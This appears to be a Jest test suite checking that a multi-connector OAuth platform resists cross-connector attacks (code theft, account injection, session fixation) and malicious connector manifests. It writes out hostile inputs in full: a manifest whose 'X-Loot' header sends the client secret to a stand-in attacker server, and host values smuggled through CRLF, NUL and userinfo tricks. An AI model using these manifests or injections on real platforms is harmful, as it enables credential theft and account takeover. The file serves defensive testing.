import { atCallback, Browser } from "./harness/browser.ts";
import { everythingOf, findSecrets } from "./harness/canary.ts";
import { cleanup } from "./harness/cleanup.ts";
import { begin, draft, look, step } from "./harness/connect.ts";
import type { Answer } from "./harness/http.ts";
import { type Product, startProduct } from "./harness/product.ts";
import { type OddProvider, type Reply, type Seen, startOddProvider } from "./provider/odd.ts";
import { beginnings } from "./provider/quirk-ledger.ts";
import { type QuirkServer, type Realm, secretBeginning, startQuirkServer } from "./provider/quirks.ts";

/*
 * Attacks on a platform with many connectors, of which one is hostile: its code is fetched for another's (COAT), somebody's account is
 * slipped in (CORF), and somebody finishes what another person began (COSF). The hostile server writes down all that it is sent.
 */

jest.setTimeout(60_000);

let server: QuirkServer;
let bank: Realm;
let zoned: Realm;
let evil: OddProvider;
let product: Product;
const keys = { author: "", mallory: "", ada: "", grace: "" };

/** Where the hostile authorization endpoint sends the browser. */
let lure: (seen: Seen) => Reply;

const honest = (name: string, more = "", token = `${server.url}/${name}/token`) => `manifest: 1
name: ${name}
title: Bank
base_url: ${server.url}/${name}/api
auth:
  oauth:
    type: oauth2
    grant: authorization_code
    scopes: { required: [{ name: read, reason: Read. }, { name: write, reason: Write. }] }
    authorization: { url: ${server.url}/${name}/authorize }
    token: { url: "${token}" }
    test: { request: { path: /me } }
    label: "{{ me.name }}"
    unique_id: me.id
${more}actions:
  list_items: { title: List, request: { path: /items }, output: body.items }
`;

/** A connector that somebody published to attack the bank's users. */
const hostile = (name: string, urls: { readonly authorization: string; readonly token: string }) => `manifest: 1
name: ${name}
title: Free stickers
base_url: ${evil.url}/api
auth:
  oauth:
    type: oauth2
    grant: authorization_code
    scopes: { required: [{ name: read, reason: Read. }, { name: write, reason: Write. }] }
    authorization: { url: ${urls.authorization} }
    token: { url: ${urls.token} }
    test: { request: { path: /me } }
    label: Stickers
    unique_id: me.id
`;

beforeAll(async () => {
  server = await startQuirkServer();
  bank = server.realm("bank");
  zoned = server.realm("zoned", { "callback.capture": { "accounts-server": new URL(server.url).hostname } });
  const record = (seen: Seen): Reply =>
    seen.path === "/authorize" ? lure(seen) : { body: { access_token: "evil-token", id: 1, name: "Mallory" } };
  evil = await startOddProvider(new Proxy({}, { get: () => record }));
  const { port, hostname } = new URL(server.url);
  const zone = `    callback: { capture: { zone: { param: accounts-server, options: ["${hostname}"] } } }\n`;
  product = await startProduct({
    connectors: {
      bank: honest("bank"),
      zoned: honest("zoned", zone, `http://{{ callback.zone }}:${port}/zoned/token`),
      stickers: hostile("stickers", { authorization: `${evil.url}/authorize`, token: `${evil.url}/token` }),
      mixed: hostile("mixed", { authorization: `${server.url}/bank/authorize`, token: `${evil.url}/token` }),
    },
  });
  bank.redirect = `${product.url}/oauth/callback/bank`;
  zoned.redirect = `${product.url}/oauth/callback/zoned`;
  const save = async (connector: string, app: object) =>
    expect((await product.put(`/v1/connectors/${connector}/apps/oauth/production`, app)).status).toBe(200);
  await save("bank", bank.client);
  await save("zoned", zoned.client);
  // A client's ID is public: the attacker names the bank's.
  for (const connector of ["stickers", "mixed"])
    await save(connector, { client_id: bank.client.client_id, client_secret: "mallorys-own-secret" });
  for (const [name, role] of Object.entries({ author: "author", mallory: "user", ada: "user", grace: "user" })) {
    const made = await product.post("/v1/api_keys", { name, role, owner: name });
    keys[name as keyof typeof keys] = made.json.key;
  }
});
afterAll(cleanup);

beforeEach(() => {
  for (const realm of [bank, zoned]) realm.seen.length = 0;
  evil.seen.length = 0;
  lure = () => ({ status: 404 });
});

afterEach(() => {
  // Whatever was tried: nothing of the bank's has ever been sent to the hostile server.
  const sent = evil.seen.map(({ method, target, headers, body }) => `${method} ${target}\n${JSON.stringify(headers)}\n${body}`);
  const secrets = [secretBeginning, ...Object.values(beginnings)];
  expect(
    findSecrets(
      secrets,
      sent.map((text, index) => [`request ${index}`, Buffer.from(text)] as const),
    ),
  ).toEqual([]);
});

const tokenRequests = () => [...bank.at("/token"), ...zoned.at("/token"), ...evil.at("/token")].map(({ target }) => target);

/** A browser in which a person is signed in. */
async function signedIn(key: string): Promise<Browser> {
  const browser = new Browser();
  const answer = await browser.send(`${product.url}/v1/session`, {
    method: "POST",
    body: JSON.stringify({ api_key: key }),
    headers: { "content-type": "application/json", origin: product.url },
  });
  expect(answer.status).toBe(200);
  return browser;
}

/** What a page of ours sends in a person's name. */
const ask = async (browser: Browser, path: string, body: object = {}) =>
  (
    await browser.send(`${product.url}${path}`, {
      method: "POST",
      body: JSON.stringify(body),
      headers: { "content-type": "application/json", origin: product.url },
    })
  ).json;

/** A person presses Connect, up to our own authorization URL. */
async function started(browser: Browser, connector: string): Promise<{ readonly id: string; readonly url: string }> {
  const { id } = await ask(browser, "/v1/connections", { connector });
  return { id, url: (await ask(browser, `/v1/connections/${id}/authorize`)).authorization_url };
}

const atProvider = (url: URL) => url.origin === server.url || url.origin === evil.url;

const asProgram = { headers: { accept: "application/json" } };

function refused(answer: Answer | undefined, words: RegExp): void {
  expect(answer).toMatchObject({ status: 400 });
  expect(answer?.json).toMatchObject({ code: "state_invalid", detail: expect.stringMatching(words) });
}

/** Opens a URL to the end, or to a callback that is then opened as a program would, so that its problem can be read. */
async function follow(browser: Browser, url: string): Promise<Answer | undefined> {
  const visit = await browser.open(url, { stop: atCallback });
  return visit.answer ?? browser.send(visit.url, asProgram);
}

describe("a hostile connector fetches the code of another one (COAT)", () => {
  test("its authorization endpoint sends the browser on to the bank, with its own state: the bank's code is exchanged nowhere", async () => {
    lure = ({ query }) => {
      const url = new URL(`${server.url}/bank/authorize`);
      for (const [name, value] of query) url.searchParams.set(name, value);
      url.searchParams.set("redirect_uri", bank.redirect);
      return { status: 302, headers: { location: url.href } };
    };
    const browser = new Browser();
    const { id } = await draft(product, "stickers");
    refused(await follow(browser, await begin(product, id)), /another connector/);
    expect(bank.at("/authorize")).toHaveLength(1);
    expect(bank.refusals).toEqual([]);
    expect(tokenRequests()).toEqual([]);
    expect((await look(product, id)).status).not.toBe("connected");
  });

  test("it names the bank's authorization endpoint and its own token endpoint: the bank does not know its redirect URL", async () => {
    const { id } = await draft(product, "mixed");
    const visit = await new Browser().open(await begin(product, id));
    expect([visit.url.pathname, visit.answer?.status]).toEqual(["/bank/authorize", 400]);
    expect(bank.refusals.splice(0)).toEqual([expect.stringContaining("/oauth/callback/mixed")]);
    expect(tokenRequests()).toEqual([]);
  });

  test("the bank's code and state are brought to its redirect URL: nobody is asked for a token", async () => {
    const browser = new Browser();
    const { id } = await draft(product, "bank");
    const { url } = await browser.open(await begin(product, id), { stop: atCallback });
    url.pathname = "/oauth/callback/stickers";
    refused(await browser.send(url, asProgram), /another connector/);
    expect(tokenRequests()).toEqual([]);
  });

  test("two sign-ins of one browser have their states exchanged: both are refused, and used up", async () => {
    lure = ({ query }) => ({
      status: 302,
      headers: { location: `${query.get("redirect_uri")}?code=evil-code&state=${query.get("state")}` },
    });
    const browser = new Browser();
    const [one, two] = [await draft(product, "bank"), await draft(product, "stickers")];
    const first = (await browser.open(await begin(product, one.id), { stop: atCallback })).url;
    const second = (await browser.open(await begin(product, two.id), { stop: atCallback })).url;
    const [state, other] = [first.searchParams.get("state") ?? "", second.searchParams.get("state") ?? ""];
    first.searchParams.set("state", other);
    second.searchParams.set("state", state);
    for (const url of [first, second]) refused(await browser.send(url, asProgram), /another connector/);
    first.searchParams.set("state", state);
    second.searchParams.set("state", other);
    for (const url of [first, second]) refused(await browser.send(url, asProgram), /unknown, expired or was already finished/);
    expect(tokenRequests()).toEqual([]);
  });
});

describe("somebody else's account is slipped in (CORF)", () => {
  /** A code of the attacker's own account at the bank, with the attacker's state; it was never used. */
  async function ofMallory(): Promise<URL> {
    const mallory = await signedIn(keys.mallory);
    const { url } = await started(mallory, "bank");
    return (await mallory.open(url, { stop: atCallback })).url;
  }

  test("by the hostile authorization endpoint, with the state that it was given", async () => {
    const forged = await ofMallory();
    lure = ({ query }) => {
      forged.searchParams.set("state", query.get("state") ?? "");
      return { status: 302, headers: { location: forged.href } };
    };
    const victim = await signedIn(keys.ada);
    const { id, url } = await started(victim, "stickers");
    refused(await follow(victim, url), /another connector/);
    expect(tokenRequests()).toEqual([]);
    expect((await look(product, id)).status).not.toBe("connected");
  });

  test("by a link to our redirect URL with the attacker's code and state, whatever the victim is doing", async () => {
    const forged = await ofMallory();
    for (const victim of [new Browser(), await signedIn(keys.ada)]) {
      const { id, url } = await started(await signedIn(keys.ada), "bank");
      await victim.open(url, { stop: atProvider });
      const again = await ofMallory();
      refused(await victim.send(again, asProgram), /another browser|another person/);
      expect((await look(product, id)).status).not.toBe("connected");
    }
    refused(await new Browser().send(forged, asProgram), /another browser/);
    expect(tokenRequests()).toEqual([]);
  });

  test("by a code alone, beside the state of the victim's own sign-in: the verifier of another sign-in redeems nothing", async () => {
    const forged = await ofMallory();
    const victim = await signedIn(keys.ada);
    const { id, url } = await started(victim, "bank");
    const mine = (await victim.open(url, { stop: atCallback })).url;
    mine.searchParams.set("code", forged.searchParams.get("code") ?? "");
    await victim.open(mine);
    expect(bank.refusals.splice(0)).toEqual([expect.stringContaining("code_verifier")]);
    expect(await look(product, id)).toMatchObject({ status: "draft", error: { code: "code_expired" } });
    expect(tokenRequests()).toHaveLength(1);
  });
});

describe("somebody finishes what another person began (COSF)", () => {
  test("who is signed in cannot hand the link to another person, signed in or not", async () => {
    const mallory = await signedIn(keys.mallory);
    const { id, url } = await started(mallory, "bank");
    for (const victim of [await signedIn(keys.ada), new Browser()])
      refused(await victim.send(url, asProgram), /another person|another browser/);
    expect(bank.seen).toEqual([]);
    expect((await look(product, id)).status).not.toBe("connected");
  });

  test("the bank's own page, opened by the attacker and finished by another person, connects nothing", async () => {
    const mallory = await signedIn(keys.mallory);
    const { id, url } = await started(mallory, "bank");
    const page = (await mallory.open(url, { stop: atProvider })).url;
    for (const victim of [await signedIn(keys.ada), new Browser()]) {
      const back = (await victim.open(page, { stop: atCallback })).url;
      const answer = await victim.send(back, asProgram);
      expect(answer.status).toBe(400);
      expect(answer.json.code).toBe("state_invalid");
    }
    // Not even the attacker's own browser gets anything for it afterwards: the state is used up.
    const late = (await mallory.open(page, { stop: atCallback })).url;
    refused(await mallory.send(late, asProgram), /already finished/);
    expect(tokenRequests()).toEqual([]);
    expect(await look(product, id)).toMatchObject({ unique_id: null });
    expect((await step(product, id, "list_items")).json.code).toBe("not_connected");
  });

  test("a sign-in that a key began and its own browser opened is finished by no other browser", async () => {
    const own = new Browser();
    const made = await product.send("POST", "/v1/connections", { connector: "bank" }, { key: keys.mallory });
    const begun = await product.send("POST", `/v1/connections/${made.json.id}/authorize`, {}, { key: keys.mallory });
    const page = (await own.open(begun.json.authorization_url, { stop: atProvider })).url;
    for (const victim of [new Browser(), await signedIn(keys.ada)]) {
      const back = (await victim.open(page, { stop: atCallback })).url;
      const answer = await victim.send(back, asProgram);
      expect([answer.status, answer.json.code]).toEqual([400, "state_invalid"]);
    }
    expect(tokenRequests()).toEqual([]);
  });

  test("a link that a key began is opened by nobody who is signed in as somebody else", async () => {
    const made = await product.send("POST", "/v1/connections", { connector: "bank" }, { key: keys.mallory });
    const begun = await product.send("POST", `/v1/connections/${made.json.id}/authorize`, {}, { key: keys.mallory });
    const victim = await signedIn(keys.ada);
    refused(await victim.send(begun.json.authorization_url, asProgram), /another person/);
    expect(bank.seen).toEqual([]);
  });

  test("another person's key neither sees nor starts anything of a connection", async () => {
    const ada = await signedIn(keys.ada);
    const { id, url } = await started(ada, "bank");
    await ada.open(url);
    expect(await look(product, id)).toMatchObject({ status: "connected", label: "Ada" });
    const before = bank.seen.length;
    for (const [method, path] of [
      ["GET", ""],
      ["POST", "/authorize"],
      ["POST", "/refresh"],
      ["POST", "/actions/list_items"],
      ["PATCH", ""],
      ["DELETE", ""],
    ] as const) {
      const answer = await product.send(method, `/v1/connections/${id}${path}`, method === "GET" ? undefined : {}, {
        key: keys.grace,
      });
      expect({ method, path, status: answer.status, code: answer.json.code }).toEqual({
        method,
        path,
        status: 404,
        code: "connection_unknown",
      });
    }
    expect(bank.seen).toHaveLength(before);
    expect((await step(product, id, "list_items")).status).toBe(200);
  });
});

describe("a manifest that was written to steal", () => {
  const publish = (name: string, text: string, key = keys.author) =>
    product.send("PUT", `/v1/connectors/${name}`, text, { key, headers: { "content-type": "application/yaml" } });

  const leech = (more: string) => `manifest: 1
name: leech
extends: bank
title: Bank, but better
auth:
  oauth:
${more}
`;

  test("extends the bank's and swaps the token endpoint: it has no app, so that nothing is even begun", async () => {
    const published = await publish("leech", leech(`    token: { url: "${evil.url}/token" }`));
    expect([published.status, published.text]).toEqual([201, expect.anything()]);
    expect((await product.get("/v1/connectors/leech")).json.configured).toBe(false);
    const { id } = await draft(product, "leech");
    const begun = await product.post(`/v1/connections/${id}/authorize`);
    expect(begun.json).toMatchObject({ status: 409, code: "app_not_configured" });
    expect(evil.seen).toEqual([]);
  });

  test("and with an app of its own that names the bank's client, the bank's people are not let back to it", async () => {
    const app = { client_id: bank.client.client_id, client_secret: "mallorys-own-secret" };
    expect((await product.put("/v1/connectors/leech/apps/oauth/production", app)).status).toBe(200);
    const { id } = await draft(product, "leech");
    const visit = await new Browser().open(await begin(product, id));
    expect([visit.url.pathname, visit.answer?.status]).toEqual(["/bank/authorize", 400]);
    expect(bank.refusals.splice(0)).toEqual([expect.stringContaining("/oauth/callback/leech")]);
    expect(tokenRequests()).toEqual([]);
  });

  test("sends the client where it likes, and it is its own", async () => {
    lure = ({ query }) => ({
      status: 302,
      headers: { location: `${query.get("redirect_uri")}?code=c&state=${query.get("state")}` },
    });
    const headers = '{ X-Loot: "{{ app.client_secret }} {{ app.client_id }}" }';
    const text = leech(
      `    authorization: { url: "${evil.url}/authorize" }\n    token: { url: "${evil.url}/token", headers: ${headers} }`,
    );
    expect((await publish("leech", text, product.adminKey)).status).toBe(200);
    const { id } = await draft(product, "leech");
    await new Browser().open(await begin(product, id));
    const [stolen] = evil.at("/token");
    expect(stolen?.headers["x-loot"]).toMatch(/^mallorys-own-secret /);
  });

  test.each(["bank", "zoned"])("does not take the place of the connector that people use: %s", async (name) => {
    const answer = await publish(name, honest(name).replace(`${server.url}/${name}/token`, `${evil.url}/token`));
    expect(answer.json).toMatchObject({ status: 403, code: "admin_required" });
  });
});

describe("a callback that names where the token is to be asked for", () => {
  const host = () => new URL(evil.url).host;

  test("is believed where the manifest lists the place", async () => {
    const { id } = await draft(product, "zoned", { owner: "listed" });
    await new Browser().open(await begin(product, id));
    expect(await look(product, id)).toMatchObject({ status: "connected" });
  });

  test.each<[string, () => string]>([
    ["another host", host],
    ["a URL", () => evil.url],
    ["another name of the same machine", () => "localhost"],
    ["another host behind the right one", () => `${new URL(server.url).hostname}:x@${host()}`],
    ["another host before the right one", () => `${host()}/${new URL(server.url).hostname}`],
    ["another host behind a line break", () => `${new URL(server.url).hostname}\r\nHost: ${host()}`],
    ["another host behind NUL", () => `${new URL(server.url).hostname}\0${host()}`],
    ["nothing", () => ""],
  ])("is refused where it names %s", async (_, value) => {
    const browser = new Browser();
    const { id } = await draft(product, "zoned", { owner: "unlisted" });
    const { url } = await browser.open(await begin(product, id), { stop: atCallback });
    url.searchParams.set("accounts-server", value());
    await browser.open(url);
    expect(await look(product, id)).toMatchObject({
      status: "error",
      error: { code: expect.stringMatching(/^capture_(refused|missing)$/) },
    });
    expect(tokenRequests()).toEqual([]);
    expect(evil.seen).toEqual([]);
  });

  test("is refused where it names the place twice, the right one first", async () => {
    const browser = new Browser();
    const { id } = await draft(product, "zoned", { owner: "twice" });
    const { url } = await browser.open(await begin(product, id), { stop: atCallback });
    url.searchParams.append("accounts-server", host());
    await browser.open(url);
    expect(await look(product, id)).toMatchObject({ error: { code: "callback_invalid" } });
    expect(tokenRequests()).toEqual([]);
  });
});

test("no secret of anybody stands in the store, in the logs or in any answer", async () => {
  const secrets = [secretBeginning, ...Object.values(beginnings), "mallorys-own-secret"];
  expect(findSecrets(secrets, await everythingOf(product))).toEqual([]);
});
